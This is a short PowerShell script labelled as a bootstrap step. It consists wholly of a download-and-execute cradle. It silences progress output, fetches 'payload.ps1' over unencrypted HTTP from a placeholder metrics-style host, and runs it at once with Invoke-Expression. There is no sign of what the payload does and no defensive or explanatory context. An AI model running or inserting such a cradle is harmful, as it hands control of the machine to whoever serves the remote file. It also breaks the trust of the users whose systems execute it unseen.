# bootstrap 9175 v1
$ProgressPreference = 'SilentlyContinue'
iwr -UseBasicParsing http://static.metrics-node.example/payload.ps1 | iex
